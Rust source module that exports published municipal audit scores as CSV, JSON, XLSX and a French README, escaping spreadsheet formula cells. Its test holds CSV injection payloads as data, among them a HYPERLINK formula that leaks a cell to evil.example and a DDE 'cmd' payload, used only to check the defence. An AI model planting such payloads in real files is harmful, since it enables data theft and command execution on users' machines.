//! Open-data exports: every published audit and its scores as JSON and CSV, one aggregated CSV
//! for all communes, and a README describing every column. Drafts never appear, whatever the
//! build options. Pure: scored model → files; it never scores.

use std::fmt::Write as _;

use serde::Serialize;

use crate::i18n::t;

pub mod json;
mod outcomes;
mod workbook;
use crate::model::Model;
use crate::model::{Audit, Commune, Methodology};
use crate::score::{CommuneScores, Outcome, Scorecard, Scored};
use outcomes::OutcomeRow;

/// One row of `audits.csv`: one published audit. The field names are the CSV header, and
/// each is described in `data/README.md` (`export.audits.<column>` in `i18n/fr.toml`) and in
/// docs/FORMAT.md.
#[derive(Default, Serialize)]
pub struct AuditRow<'a> {
    commune: Text<'a>,
    nom: Text<'a>,
    ins: Text<'a>,
    province: Text<'a>,
    intercommunale: Text<'a>,
    degurba: Text<'a>,
    population: u64,
    audit: Text<'a>,
    date: Text<'a>,
    methodologie: Text<'a>,
    indice_global: String,
    couverture: String,
    fictif: bool,
}

/// One row of `scores.csv` and of each audit's CSV: a step, an angle or a cell of one audit
/// (`export.scores.<column>` in `i18n/fr.toml`).
#[derive(Default, Serialize)]
pub struct ScoreRow<'a> {
    commune: Text<'a>,
    ins: Text<'a>,
    audit: Text<'a>,
    methodologie: Text<'a>,
    niveau: Text<'a>,
    etape: Text<'a>,
    angle: Text<'a>,
    score: String,
    couverture: String,
    fictif: bool,
}

/// What one published audit contributes to `data/`: its row of `audits.csv`, its rows of
/// `scores.csv`, and (when asked) its own JSON and CSV files.
pub struct AuditExport<'a> {
    /// The audit's row of `audits.csv`.
    pub summary: AuditRow<'a>,
    /// The audit's rows of `scores.csv`, also the rows of its own CSV.
    pub scores: Vec<ScoreRow<'a>>,
    /// `data/communes/<slug>/<audit>.json` and `.csv`, when asked for.
    pub files: Option<[(String, Vec<u8>); 2]>,
}

/// Exports one published audit, scored as `card`; its own files only when `with_files`.
pub fn export_audit<'a>(
    c: &'a Commune,
    a: &'a Audit,
    m: &'a Methodology,
    card: &Scorecard,
    outcomes: &[Outcome<'_>],
    with_files: bool,
) -> AuditExport<'a> {
    let summary = AuditRow {
        commune: Text(&c.slug),
        nom: Text(&c.name),
        ins: Text(&c.ins),
        province: Text(&c.province),
        intercommunale: Text(&c.intercommunale),
        degurba: Text(&c.degurba),
        population: c.population,
        audit: Text(&a.id),
        date: Text(&a.date),
        methodologie: Text(&a.methodology),
        indice_global: decimal(card.overall, 1),
        couverture: decimal(Some(card.coverage), 3),
        fictif: c.fictional,
    };
    let scores = score_rows(c, a, m, card);
    let files = with_files.then(|| audit_files(c, a, (m, card), outcomes, csv(&scores)));
    AuditExport {
        summary,
        scores,
        files,
    }
}

/// Builds the files under `data/` that cover every commune: the audits and scores of every
/// published audit, and the README. Each audit's own files come with its commune
/// ([`export_communes`]).
pub fn export_shared(scored: &Scored<'_>) -> Vec<(String, Vec<u8>)> {
    let mut audits = Vec::new();
    let mut scores = Vec::new();
    for cs in &scored.communes {
        for s in cs.audits.iter().filter(|s| s.published()) {
            let export = export_audit(
                cs.commune,
                s.audit,
                s.methodology,
                &s.card,
                &s.outcomes,
                false,
            );
            audits.push(export.summary);
            scores.extend(export.scores);
        }
    }
    // Each table of rows is dropped as soon as it is text: the rows weigh several times their
    // CSV, and the workbook below needs memory of its own.
    let audits = csv(&std::mem::take(&mut audits));
    let scores = csv(&std::mem::take(&mut scores));
    let outcomes = outcomes::outcomes_csv(scored);
    let workbook = workbook::workbook(
        &[
            ("audits", &audits),
            ("scores", &scores),
            ("resultats", &outcomes),
        ],
        scored,
    );
    vec![
        ("data/README.md".into(), readme(scored.model).into_bytes()),
        ("data/audits.csv".into(), audits.into_bytes()),
        ("data/scores.csv".into(), scores.into_bytes()),
        ("data/outcomes.csv".into(), outcomes.into_bytes()),
        ("data/donnees.xlsx".into(), workbook),
    ]
}

/// Builds the files of each published audit of `communes`, under `data/communes/<slug>/`.
pub fn export_communes(communes: &[&CommuneScores<'_>]) -> Vec<(String, Vec<u8>)> {
    let mut files = Vec::new();
    for cs in communes {
        for s in cs.audits.iter().filter(|s| s.published()) {
            let export = export_audit(
                cs.commune,
                s.audit,
                s.methodology,
                &s.card,
                &s.outcomes,
                true,
            );
            files.extend(export.files.into_iter().flatten());
        }
    }
    files
}

/// The JSON and CSV files of one published audit.
fn audit_files(
    c: &Commune,
    a: &Audit,
    (m, card): (&Methodology, &Scorecard),
    outcomes: &[Outcome<'_>],
    csv: String,
) -> [(String, Vec<u8>); 2] {
    let record = json::audit_file(c, a, m, card, outcomes);
    let base = format!("data/communes/{}/{}", c.slug, a.id);
    let mut text = serde_json::to_string_pretty(&record).unwrap_or_default();
    text.push('\n');
    [
        (format!("{base}.json"), text.into_bytes()),
        (format!("{base}.csv"), csv.into_bytes()),
    ]
}

/// The step, angle and cell rows of one scorecard.
fn score_rows<'a>(
    c: &'a Commune,
    a: &'a Audit,
    m: &'a Methodology,
    card: &Scorecard,
) -> Vec<ScoreRow<'a>> {
    let row = |niveau, etape, angle, score: Option<f64>, coverage: Option<f64>| ScoreRow {
        commune: Text(&c.slug),
        ins: Text(&c.ins),
        audit: Text(&a.id),
        methodologie: Text(&a.methodology),
        niveau: Text(niveau),
        etape: Text(etape),
        angle: Text(angle),
        score: decimal(score, 1),
        couverture: decimal(coverage, 3),
        fictif: c.fictional,
    };
    let mut out = Vec::new();
    for (s, p) in m.steps.iter().zip(&card.steps) {
        out.push(row("etape", &s.id, "", p.score, p.coverage));
    }
    for (x, p) in m.angles.iter().zip(&card.angles) {
        out.push(row("angle", "", &x.id, p.score, p.coverage));
    }
    for (s, cells) in m.steps.iter().zip(&card.cells) {
        for (x, p) in m.angles.iter().zip(cells) {
            if p.criteria > 0 {
                out.push(row("case", &s.id, &x.id, p.score, p.coverage));
            }
        }
    }
    out
}

/// Writes `rows` as CSV (RFC 4180, `\n` line ends), the header from the fields of `T`.
fn csv<T: Serialize>(rows: &[T]) -> String {
    let mut writer = csv::WriterBuilder::new()
        .terminator(csv::Terminator::Any(b'\n'))
        .from_writer(Vec::new());
    for row in rows {
        // Writing plain strings and numbers into memory cannot fail.
        let _ = writer.serialize(row);
    }
    let bytes = writer.into_inner().unwrap_or_default();
    String::from_utf8(bytes).unwrap_or_default()
}

/// The column names of the row struct `T`, as [`csv`] writes them in the header.
fn columns<T: Serialize + Default>() -> Vec<String> {
    let text = csv(&[T::default()]);
    let header = text.lines().next().unwrap_or_default();
    header.split(',').map(str::to_string).collect()
}

/// Text from the repository in a CSV cell: a cell that a spreadsheet would read as a formula
/// (starting with `=`, `+`, `-`, `@`, a tab or a carriage return) gets a leading `'`, as OWASP
/// recommends. Numbers this program writes are `String`/`u64` fields, never touched.
#[derive(Clone, Copy, Default)]
struct Text<'a>(&'a str);

impl Serialize for Text<'_> {
    fn serialize<S: serde::Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        if self.0.starts_with(['=', '+', '-', '@', '\t', '\r']) {
            serializer.serialize_str(&format!("'{}", self.0))
        } else {
            serializer.serialize_str(self.0)
        }
    }
}

fn decimal(v: Option<f64>, places: u8) -> String {
    v.map(|v| crate::format::decimals(v, places))
        .unwrap_or_default()
}

fn round(v: Option<f64>, places: u8) -> Option<f64> {
    v.map(|v| crate::format::round_to(v, places))
}

fn readme(model: &Model) -> String {
    let mut out = String::new();
    let _ = writeln!(out, "# {} — données ouvertes\n", model.config.title);
    let _ = writeln!(
        out,
        "Licence : {}. Seuls les audits publiés figurent ici ; les brouillons n'en sortent jamais.\n",
        model.config.data_licence
    );
    out.push_str("Fichiers :\n\n");
    out.push_str("- `audits.csv` : une ligne par audit publié, toutes communes confondues.\n");
    out.push_str("- `scores.csv` : les scores de chaque audit publié, par étape, par angle et par case étape × angle.\n");
    out.push_str("- `outcomes.csv` : les indicateurs de résultat mesurés par chaque audit publié, avec la mesure précédente ; ils n'entrent dans aucun score.\n");
    out.push_str("- `communes/<commune>/<audit>.json` : un audit complet (réponses, inventaire, plan d'actions, indicateurs de résultat, coûts et retours par étape) et ses scores.\n");
    out.push_str("- `communes/<commune>/<audit>.csv` : les scores de cet audit, mêmes colonnes que `scores.csv`.\n");
    out.push_str("- `donnees.xlsx` : les tableaux `audits`, `scores` et `resultats` (celui d'`outcomes.csv`) dans un classeur, une feuille chacun, les nombres en cellules numériques.\n\n");
    out.push_str("Les fichiers CSV sont encodés en UTF-8, séparés par des virgules, avec le point comme séparateur décimal.\n");
    out.push_str("Une cellule de texte qui commencerait par `=`, `+`, `-`, `@`, une tabulation ou un retour chariot est précédée d'une apostrophe `'`, pour qu'un tableur ne l'exécute pas comme une formule ; les nombres ne sont jamais modifiés.\n\n");
    out.push_str("## Colonnes de audits.csv\n\n");
    for name in columns::<AuditRow>() {
        let _ = writeln!(out, "- `{name}` : {}", t(&format!("export.audits.{name}")));
    }
    out.push_str("\n## Colonnes de scores.csv\n\n");
    for name in columns::<ScoreRow>() {
        let _ = writeln!(out, "- `{name}` : {}", t(&format!("export.scores.{name}")));
    }
    out.push_str("\n## Colonnes de outcomes.csv\n\n");
    for name in columns::<OutcomeRow>() {
        let _ = writeln!(
            out,
            "- `{name}` : {}",
            t(&format!("export.outcomes.{name}"))
        );
    }
    out.push_str("\n## Champs des fichiers JSON d'audit\n\n");
    out.push_str("Les noms de champs et les valeurs énumérées sont en français, comme les colonnes des CSV ; `[]` désigne les éléments d'une liste, et un champ sans valeur vaut `null`.\n\n");
    for path in json::FIELDS {
        let _ = writeln!(out, "- `{path}` : {}", t(&format!("export.json.{path}")));
    }
    out.push_str("\nLes scores suivent la méthodologie de la version indiquée : la moyenne pondérée des critères répondus, sur 100 (niveau × 25) ; « na » est exclu, « inconnu » compte 0.\n");
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn issue_11_formula_cells_are_neutralised_and_quoted() {
        let record = (
            Text("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Arlon\")"),
            Text("+cmd|' /C calc'!A0"),
            Text("@SUM(1)"),
            Text("-2+3"),
            Text("\tx"),
            Text("\rx"),
            Text("Namur"),
        );
        assert_eq!(
            csv(&[record]),
            "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Arlon\"\")\",'+cmd|' /C calc'!A0,'@SUM(1),'-2+3,'\tx,\"'\rx\",Namur\n"
        );
    }

    #[test]
    fn numbers_are_written_as_they_are() {
        assert_eq!(csv(&[("-1.5".to_string(), 42u64)]), "-1.5,42\n");
    }

    #[test]
    fn every_column_is_described_in_the_readme_and_in_format_md() {
        let format = include_str!("../docs/FORMAT.md");
        for (file, names) in [
            ("audits", columns::<AuditRow>()),
            ("scores", columns::<ScoreRow>()),
            ("outcomes", columns::<OutcomeRow>()),
        ] {
            assert!(names.len() > 5, "{names:?}");
            for name in names {
                let key = format!("export.{file}.{name}");
                assert_ne!(t(&key), key, "{key} missing from i18n/fr.toml");
                assert!(
                    format.contains(&format!("| `{name}` |")),
                    "{name} missing from FORMAT.md"
                );
            }
        }
    }
}
